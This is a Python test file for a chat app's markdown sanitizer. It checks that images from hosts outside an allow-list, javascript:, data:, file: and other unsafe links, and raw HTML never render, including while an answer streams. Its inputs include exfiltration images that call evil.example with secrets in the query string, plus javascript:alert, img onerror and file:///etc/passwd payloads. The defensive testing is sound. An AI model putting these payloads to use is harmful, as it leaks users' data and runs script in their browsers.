"""Answers and prompts can't phone out: images only from allowed hosts, only http(s)/mailto
links, code left alone; and the same while an answer streams, at every split point.

What is "rendered" here is decided by a fresh markdown-it parser (CommonMark); the browser
test (tests/e2e/test_safe_markdown_in_browser.py) checks the same with Streamlit's own renderer.
"""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatcore.safe_markdown import (
    IMAGE_MARK,
    MarkdownPolicy,
    StreamingSanitizer,
    escape_links,
    sanitize_markdown,
    sanitize_pieces,
)

NONE = MarkdownPolicy()
OK = MarkdownPolicy.from_setting(" ok.example , 127.0.0.1:8123 ")
EVIL = "evil.example"


def rendered(markdown: str, html: list[str] | None = None) -> tuple[list[str], list[str]]:
    """(image sources, link targets) a CommonMark renderer would produce; raw HTML into ``html``."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    md.normalizeLink = lambda url: url
    images: list[str] = []
    links: list[str] = []
    stack = list(md.parse(markdown))
    while stack:
        token = stack.pop()
        stack.extend(token.children or ())
        if token.type == "image":
            images.append(str(token.attrGet("src")))
        elif token.type == "link_open":
            links.append(str(token.attrGet("href")))
        elif token.type in ("html_inline", "html_block") and html is not None:
            html.append(token.content)
    return images, links


def assert_safe(markdown: str, policy: MarkdownPolicy = NONE) -> None:
    images, links = rendered(markdown)
    allowed = [h for h in policy.image_hosts]
    for src in images:
        host = re.match(r"https?://([^/?#]+)", src)
        assert host and host[1].lower() in allowed, f"image {src!r} would load from {markdown!r}"
    for href in links:
        assert re.match(r"(?i)(https?|mailto):|#", href), f"link {href!r} clickable in {markdown!r}"


# ------------------------------------------------------------------ images
@pytest.mark.parametrize("text", [
    "Look ![leak](https://evil.example/t?q=secret) here",
    'Look ![leak](<https://evil.example/t?q=a b> "a title") here',
    "Look ![leak](https://evil.example/t 'single') and ![x](https://evil.example/p (paren))",
    "Look ![leak][r] here\n\n[r]: https://evil.example/ref",
    "[r]: <https://evil.example/ref> \"title\"\n\nLook ![leak][] and ![r] here",
    "Look ![leak][R] here\n\n[r]:\n  https://evil.example/ref",
    "  ![a](https://EVIL.example/x) ![b](HTTPS://evil.example/y)",
    "![x](//evil.example/protocol-relative) ![y](/same-origin.png) ![z](data:image/png;base64,AAAA)",
    "![x](http://ok.example\\@evil.example/) ![y](http://evil.example\\@ok.example/) ![z](http://ok.example@evil.example/)",
    "![x](http://ok.example.evil.example/) ![y](http://%6Fk.example/) ![z](http://ok.example:81/)",
    "![x](&#x68;ttps://evil.example/) ![y](https://evil.example/&#x2F;) ![z](https\\://evil.example/)",
    "- item ![x](https://evil.example/list)\n> quote ![y](https://evil.example/quote)\n\n"
    "| a | b |\n|---|---|\n| ![z](https://evil.example/cell) | c |",
    "# Heading ![x](https://evil.example/h)\n\n*em ![y](https://evil.example/em)*",
    "![outer ![inner](https://evil.example/in)](https://evil.example/out)",
    "![x](https://evil.example/a)![y](https://evil.example/b)",
])
def test_an_image_from_another_host_is_never_loaded(text):
    out = sanitize_markdown(text)
    assert_safe(out)
    assert rendered(out)[0] == []
    assert IMAGE_MARK in out


def test_a_blocked_image_becomes_a_link_that_names_its_host():
    out = sanitize_markdown("See ![the chart](https://evil.example/t?leak=secret) now")
    assert out == "See [🖼 the chart (evil.example)](<https://evil.example/t?leak=secret>) now"
    assert rendered(out) == ([], ["https://evil.example/t?leak=secret"])
    out = sanitize_markdown("![](http://127.0.0.1:9/x.png)")
    assert "🖼 image (127.0.0.1:9)" in out


def test_an_image_with_an_odd_url_is_plain_text():
    out = sanitize_markdown("![x](//evil.example/t) ![y](data:image/png;base64,AAAA)")
    assert rendered(out) == ([], [])
    assert "evil.example" in out and "(image not loaded)" in out


def test_an_image_inside_a_link_keeps_the_link_and_names_the_host():
    out = sanitize_markdown("[![badge](https://evil.example/b.svg)](https://site.example/)")
    assert rendered(out) == ([], ["https://site.example/"])
    assert "🖼 badge (evil.example)" in out


def test_an_image_from_an_allowed_host_is_kept():
    text = 'A ![chart](https://ok.example/c.png "t") and ![p](http://127.0.0.1:8123/p.png) but ![q](http://127.0.0.1:8124/q.png)'
    out = sanitize_markdown(text, OK)
    assert rendered(out)[0] == ["http://127.0.0.1:8123/p.png", "https://ok.example/c.png"] or sorted(rendered(out)[0]) == [
        "http://127.0.0.1:8123/p.png", "https://ok.example/c.png"]
    assert "🖼 q (127.0.0.1:8124)" in out
    ref = sanitize_markdown("![c][r]\n\n[r]: https://OK.example/c.png", OK)
    assert rendered(ref)[0] == ["https://OK.example/c.png"]
    assert rendered(sanitize_markdown("![c](https://ok.example/c.png)", NONE))[0] == []


def test_the_policy_comes_from_secrets_then_environment():
    assert MarkdownPolicy.from_sources({}, {}).image_hosts == frozenset()
    assert MarkdownPolicy.from_sources({}, {"CHAT_IMAGE_HOSTS": "A.example, b.example:8080"}).image_hosts == {
        "a.example", "b.example:8080"}
    assert MarkdownPolicy.from_sources({"CHAT_IMAGE_HOSTS": "s.example"}, {"CHAT_IMAGE_HOSTS": "e.example"}).image_hosts == {
        "s.example"}
    policy = MarkdownPolicy.from_setting("b.example:8080")
    assert policy.image_allowed("http://b.example:8080/x") and not policy.image_allowed("http://b.example/x")


def test_html_img_is_shown_as_text():
    # Streamlit shows raw HTML as text anyway; escaped, no reader can take it for HTML
    out = sanitize_markdown('<img src="https://evil.example/i.png"> and <IMG SRC=x onerror=alert(1)>')
    raw_html: list[str] = []
    assert rendered(out, raw_html) == ([], []) and raw_html == []
    assert out.count("\\<") == 2


# ------------------------------------------------------------------ links
@pytest.mark.parametrize("text,scheme", [
    ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
    ("[click](javascript:alert(1))", "javascript:"),
    ("[click](JavaScript:alert(1))", "JavaScript:"),
    ("[click](file:///etc/passwd)", "file:"),
    ("[click](vbscript:msgbox)", "vbscript:"),
    ("[click](foo:bar)", "foo:"),
    ("[click](&#x6a;avascript:alert(1))", "avascript:"),
    ("[click](<javascript:alert(1)> 'title')", "javascript:"),
    ("[click](java\tscript:alert(1))", "script:"),
    ("[click][d]\n\n[d]: data:text/html,hi", "data:"),
    ("[d]: <javascript:alert(1)>\n\n[d] and [x][d]", "javascript:"),
    ("<data:text/html,hi>", "data:"),
    ("<javascript:alert(1)>", "javascript:"),
    ("xmpp:someone@evil.example", "xmpp"),
])
def test_only_http_and_mailto_links_are_clickable(text, scheme):
    out = sanitize_markdown(text)
    assert_safe(out)
    assert rendered(out)[1] == []
    assert scheme.lower() in out.lower()  # shown as text


def test_good_links_stay_links():
    text = ("[site](https://site.example/a?b=1&c=2) <https://site.example/auto> <mailto:a@site.example> <a@site.example> "
            "[m](mailto:x@site.example) [top](#top) [r][ref]\n\n[ref]: http://site.example/r")
    images, links = rendered(sanitize_markdown(text))
    assert images == []
    assert sorted(links) == sorted(["https://site.example/a?b=1&c=2", "https://site.example/auto", "mailto:a@site.example",
                                    "mailto:a@site.example", "mailto:x@site.example", "#top", "http://site.example/r"])


# ------------------------------------------------------------------ code and ordinary Markdown
@pytest.mark.parametrize("text", [
    "Use `![x](https://evil.example/a)` to embed, or ``[d](data:x)`` for a link.",
    "```markdown\n![x](https://evil.example/a)\n[d](data:text/html,hi)\n<img src=x>\n```\n",
    "~~~\n![x](https://evil.example/a)\n~~~",
    "1. Step\n\n   ```python\n   print(a[0] < b)  # ![x](https://evil.example/a)\n   ```\n",
    "$$\n\\int_{[a,b]} f < g \\, dx\n$$",
    "Math $a[0]$ and `x[1]` stay.",
])
def test_code_and_math_are_left_exactly_as_written(text):
    assert sanitize_markdown(text) == text


@pytest.mark.parametrize("text", [
    "Plain prose, **bold**, *em*, a list:\n\n- [ ] task\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "An array a[i] and :red[colored] text, a footnote[^1], 3 > 2 and 1 < 2!\n\n[^1]: note",
    "Links [here](https://site.example/x) stay.",
])
def test_ordinary_markdown_renders_as_before(text):
    out = sanitize_markdown(text)
    assert rendered(out) == rendered(text)
    assert re.sub(r"\\(.)", r"\1", out).replace("<https://site.example/x>", "https://site.example/x") == text


def test_code_that_is_not_code_is_sanitised():
    # "```a`b" is no fence (a backtick fence's info may hold no backtick): what follows renders
    out = sanitize_markdown("```a`b\n![x](https://evil.example/a)\n```")
    assert_safe(out)
    # a fence inside a list item ends with the item; the next unindented line is Markdown
    out = sanitize_markdown("- a\n  ```\nb\n![x](https://evil.example/a)\n")
    assert_safe(out) and rendered(out)[0] == []
    # a code span that opens on one line and closes on the next
    out = sanitize_markdown("`abc\ndef ` ![x](https://evil.example/a) `")
    assert_safe(out)
    # a table cell boundary inside backticks: GFM splits cells first
    out = sanitize_markdown("| a | b |\n|---|---|\n| `x | ![i](https://evil.example/a) | y` |")
    assert_safe(out)


def test_the_wholesale_fallback_leaves_no_link_or_image():
    text = "a ![x](https://evil.example/) [d](data:x) <javascript:x> \\[kept\\] xmpp:a@b.example"
    out = escape_links(text)
    assert rendered(out) == ([], [])
    assert "\\[kept\\]" in out and "\\\\[" not in out


# ------------------------------------------------------------------ streaming
TRICKY = [
    "Hi ![leak](https://evil.example/t?q=secret) there",
    'Go ![a](<https://evil.example/a> "title") ok',
    "[ref]: https://evil.example/r\n\n![r][ref] and ![ref] and ![x][]",
    "![r][ref] before\n\n[ref]: https://evil.example/r",
    "[![x](https://evil.example/i.png)](https://site.example/) end",
    "[x](data:text/html;base64,PHNjcmlwdD4=) <data:text/html,hi> [j](javascript:alert(1)) done",
    "[d]: data:text/html,hi\n\n[see][d]",
    "`![x](https://evil.example/)` and ``![y](https://evil.example/)`` and ![z](https://evil.example/z)",
    "```\n![x](https://evil.example/)\n```\n![y](https://evil.example/y)\n",
    "<img src=\"https://evil.example/i.png\"> <https://site.example/> xmpp:a@b.example",
    "![a](https://evil.example/a)![b](https://evil.example/b)\\![c](https://evil.example/c)",
    "Costs $5 ![x](https://evil.example/m) and `x` $6 ok",
    "![ok](https://ok.example/a.png) and ![no](https://evil.example/b.png)",
]


def _same_when_streamed(text: str) -> bool:
    """Streamed, the answer ends as it is drawn from history, except when an image comes before
    its definition (the stream cannot wait for it) or when the text fell back to wholesale escaping
    (a "$...$" span holding link syntax: math to Streamlit, not to the second CommonMark reader)."""
    return "before" not in text and sanitize_markdown(text, OK) != escape_links(text)


def stream(pieces: list[str], policy: MarkdownPolicy) -> list[str]:
    """What the browser shows after each update: the concatenation of what was handed out."""
    sanitizer = StreamingSanitizer(policy)
    shown = ""
    states = []
    for piece in pieces:
        shown += sanitizer.feed(piece)
        states.append(shown)
    shown += sanitizer.end_block()
    states.append(shown)
    return states


@pytest.mark.parametrize("text", TRICKY)
def test_every_split_point_shows_nothing_unsanitised(text):
    whole = sanitize_markdown(text, OK)
    for cut in range(1, len(text)):
        states = stream([text[:cut], text[cut:]], OK)
        for shown in states:
            assert_safe(shown, OK)
        if _same_when_streamed(text):
            assert states[-1] == whole, f"cut at {cut}"


@pytest.mark.parametrize("text", TRICKY)
def test_one_character_at_a_time(text):
    states = stream(list(text), OK)
    for shown in states:
        assert_safe(shown, OK)
    if _same_when_streamed(text):
        assert states[-1] == sanitize_markdown(text, OK)


def test_an_unfinished_image_is_held_back_until_it_completes():
    sanitizer = StreamingSanitizer(NONE)
    assert sanitizer.feed("Here: !") == "Here: "
    assert sanitizer.feed("[chart](https://evil.exa") == ""
    assert sanitizer.held == "![chart](https://evil.exa"
    shown = sanitizer.feed("mple/t?leak=1) more")
    assert shown == "[🖼 chart (evil.example)](<https://evil.example/t?leak=1>) more"
    assert sanitizer.feed(" ![x](https://evil.example/") == " "
    assert sanitizer.end_block() == "\\!\\[x\\](https://evil.example/"  # the block ended: never an image


def test_held_text_is_released_before_a_panel_or_a_new_block():
    marker = object()
    out = list(sanitize_pieces(["Hi ![x](https://evil", marker, "more [a](https://site.example/)"], NONE))
    assert out == ["Hi ", "\\!\\[x\\](https://evil", marker, "more [a](<https://site.example/>)"]


def test_a_lone_dollar_holds_text_only_until_the_paragraph_ends():
    sanitizer = StreamingSanitizer(NONE)
    assert sanitizer.feed("It costs $5 [a") == "It costs "
    assert sanitizer.feed("] b\n\nNext") == "$5 [a] b\n\nNext"


# ------------------------------------------------------------------ fuzzing
FRAGMENTS = st.sampled_from([
    "![", "[", "]", "(", ")", "<", ">", "`", "``", "$", "\\", "\n", "\n\n", " ", "!", "a", ":", '"', "'", "*",
    "https://evil.example/x", "https://ok.example/y.png", "data:x", "javascript:x", "[r]: ", "[r]", "xmpp:",
    "&#x64;", "```\n", "    ", "- ", "> ", "| ", "#", "mailto:a@b.c", "<img src=x>",
])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(FRAGMENTS, max_size=30), st.lists(st.integers(min_value=0, max_value=400), max_size=8))
def test_fuzz_nothing_unsafe_is_ever_shown(fragments, cuts):
    text = "".join(fragments)
    assert_safe(sanitize_markdown(text, OK), OK)
    points = sorted({c % (len(text) + 1) for c in cuts})
    pieces = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    for shown in stream(pieces, OK):
        assert_safe(shown, OK)


def test_a_long_answer_streamed_in_flushes_ends_as_drawn_from_history():
    # one block with no blank line: the stream resumes its scan instead of starting over
    text = ("- see [a](https://x.example/) and ![i](https://evil.example/i.png) `c[0]` xmpp:a@b.example\n" * 15
            + "```\n![x](https://evil.example/)\n```\nCosts $5, a [link](data:x) and ~~~ tildes.\n") * 3
    states = stream([text[i : i + 45] for i in range(0, len(text), 45)], OK)
    for shown in states[::7]:
        assert_safe(shown, OK)
    assert states[-1] == sanitize_markdown(text, OK)
    assert states[-1].count(f"{IMAGE_MARK} i (evil.example)") == 45


@pytest.mark.parametrize("text", ["[x](" * 5000, "[" * 20000, "![" * 10000, "[" * 1000 + "a" + "]" * 1000, "<a" * 10000])
def test_crafted_brackets_cost_little_and_stay_safe(text):
    started = time.monotonic()
    out = sanitize_markdown(text)
    shown = stream([text[i : i + 300] for i in range(0, len(text), 300)], NONE)[-1]
    assert time.monotonic() - started < 20  # generous: about 0.3 s on the 2-core machine
    assert_safe(out) and assert_safe(shown)
